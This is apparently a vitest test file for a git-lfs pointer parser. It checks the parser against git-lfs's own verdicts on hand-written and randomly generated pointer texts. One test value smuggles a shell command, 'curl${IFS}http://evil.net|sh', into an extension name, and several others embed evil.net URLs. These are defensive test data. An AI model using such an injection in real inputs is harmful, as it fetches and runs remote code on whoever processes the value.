/** Pointers are read as git-lfs reads them: its own tests' cases, then random ones, held against git-lfs itself. */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  changedPointerOf,
  isCanonicalPointer,
  pointerOf,
  resemblesPointer,
} from '../../../../src/diff/content/lfs-pointer.ts';

const SHA = '0123456789abcdef'.repeat(4);
const VERSION = 'version https://git-lfs.github.com/spec/v1';
const OID = `oid sha256:${SHA}`;
const POINTER = `${VERSION}\n${OID}\nsize 12\n`;
const EXTENSION = `ext-0-foo sha256:${SHA}`;

const ACCEPTED: readonly string[] = [
  POINTER,
  POINTER.trimEnd(),
  POINTER.replaceAll('\n', '\r\n'),
  POINTER.replaceAll('\n', '\n\n'),
  ` \t\n${POINTER}`,
  `${POINTER}   \n\u00a0\u2003`,
  POINTER.replace('size 12', 'size +12'),
  POINTER.replace('size 12', 'size 0012'),
  POINTER.replace('size 12', 'size -0'),
  POINTER.replace('size 12', 'size 9223372036854775807'),
  `${VERSION}\n${EXTENSION}\n${OID}\nsize 12\n`,
  `${EXTENSION}\n${VERSION}\n${OID}\n${EXTENSION.replace('0', '1')}\nsize 12\n`,
  `${EXTENSION}\n${EXTENSION}\n${POINTER}`,
  `ext-0-foo;curl\${IFS}http://evil.net|sh sha256:${SHA}\n${POINTER}`,
  POINTER.replace('https://git-lfs.github.com/spec/v1', 'https://hawser.github.com/spec/v1'),
  POINTER.replace('https://git-lfs.github.com/spec/v1', 'http://git-media.io/v/2'),
  `${POINTER}${' '.repeat(2000)}`,
  `${POINTER}${' '.repeat(1024)}http://evil.net/`,
];

const REFUSED: readonly string[] = [
  `${POINTER}x`,
  `${POINTER}x y`,
  `\ufeff${POINTER}`,
  POINTER.replace('sha256:', 'sha1:'),
  POINTER.replace('oid ', 'oid  '),
  POINTER.replace('\noid', '\n oid'),
  POINTER.replace('\nsize', ' \nsize'),
  POINTER.replace('size ', 'size  '),
  POINTER.replace('oid', 'x-note http://evil.net\noid'),
  POINTER.replace('git-lfs.github.com', 'evil.net'),
  POINTER.replace('size 12', 'size -1'),
  POINTER.replace('size 12', 'size 0x12'),
  POINTER.replace('size 12', 'size 1_2'),
  POINTER.replace('size 12', 'size 9223372036854775808'),
  POINTER.replace('size 12', 'size'),
  POINTER.replace(SHA, SHA.slice(1)),
  POINTER.replace(SHA, SHA.toUpperCase()),
  `${VERSION}\nsize 12\n${OID}\n`,
  `${OID}\nsize 12\n`,
  `${EXTENSION}\next-0-bar sha256:${SHA}\n${POINTER}`,
  `${EXTENSION.replace('0', '10')}\n${POINTER}`,
  `ext-0-$$$ sha256:${SHA}\n${POINTER}`,
  `ext-0-foo sha256:boom\n${POINTER}`,
  `${POINTER}${EXTENSION}\n`,
  'this is not a git-lfs file!',
  '# git-media',
];

const bytesOf = (text: string) => Buffer.from(text).toString('latin1');

describe('a pointer', () => {
  it.each(ACCEPTED)('%j names a file', (content) => {
    expect(pointerOf(bytesOf(content))?.sha256).toBe(SHA);
  });

  it.each(REFUSED)('%j names none', (content) => {
    expect(pointerOf(bytesOf(content))).toBeNull();
  });

  it('as git-lfs writes it holds nothing else', () => {
    expect(isCanonicalPointer(POINTER)).toBe(true);
    expect(isCanonicalPointer(`${VERSION}\n${EXTENSION}\n${OID}\nsize 12\n`)).toBe(true);
    const others = ACCEPTED.filter((content) => !isCanonicalPointer(bytesOf(content)));
    expect(others.length).toBeGreaterThan(8);
    expect(others.some((content) => content.includes('evil.net'))).toBe(true);
  });

  it.each([
    `${POINTER}x`,
    POINTER.replace('sha256:', 'sha1:'),
    POINTER.replace('oid ', 'oid  '),
    POINTER.replaceAll(' ', '='),
    `<<<<<<< HEAD\n${POINTER}=======\n`,
    POINTER.replace('git-lfs.github.com/spec/v1', 'git-lfs.github.com/spec/v2'),
  ])('%j looks like one', (content) => {
    expect(pointerOf(content)).toBeNull();
    expect(resemblesPointer(content)).toBe(true);
  });

  it.each([
    'version 1.2\noid sha256:0\n',
    `# Pointers\n\n    ${POINTER}`,
    'version https://git-lfs.github.com/',
  ])('%j does not look like one', (content) => {
    expect(resemblesPointer(content)).toBe(false);
  });

  it('is told by the lines that change in it', () => {
    expect(changedPointerOf(`${OID}\nsize 12\n`)).toEqual({ sha256: SHA, size: 12 });
    expect(changedPointerOf(`${OID}\nsize +12\n\n`)).toEqual({ sha256: SHA, size: 12 });
    expect(changedPointerOf(`${OID}\n`)).toEqual({ sha256: SHA, size: 0 });
    expect(changedPointerOf(`${OID}\nsize 12\nhttp://evil.net\n`)).toBeNull();
  });
});

const hasGitLfs = spawnSync('git', ['lfs', 'version']).status === 0;

describe.runIf(hasGitLfs)('git-lfs itself (skipped where it is not installed)', () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'anteater-test-'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  const accepts = (content: string): boolean => {
    const file = join(folder, 'pointer');
    writeFileSync(file, content);
    return spawnSync('git', ['lfs', 'pointer', '--check', '--file', file], { cwd: folder }).status === 0;
  };

  it('agrees on every case', () => {
    expect(execFileSync('git', ['lfs', 'version']).toString()).toContain('git-lfs');
    for (const content of ACCEPTED) expect([content, accepts(content)]).toEqual([content, true]);
    for (const content of REFUSED) expect([content, accepts(content)]).toEqual([content, false]);
  });

  it('agrees on random ones', () => {
    const line = fc.constantFrom(
      VERSION,
      OID,
      'size 12',
      'size +7',
      EXTENSION,
      `ext-1-bar-baz sha256:${SHA}`,
      '',
      ' ',
      'size 12 ',
      ` ${OID}`,
      'x y',
    );
    const lines = fc.oneof(
      fc.array(line, { maxLength: 6 }),
      fc
        .tuple(fc.array(line, { maxLength: 2 }), fc.array(line, { maxLength: 2 }))
        .map(([before, between]) => [...before, VERSION, ...between, OID, 'size 1']),
    );
    const end = fc.constantFrom('\n', '\r\n', '\n\n', '\r\r\n', ' \n');
    fc.assert(
      fc.property(lines, end, (parts, lineEnd) => {
        const content = parts.join(lineEnd);
        fc.pre(content !== '');
        expect(pointerOf(content) !== null).toBe(accepts(content));
      }),
      { numRuns: 60 },
    );
  });
});
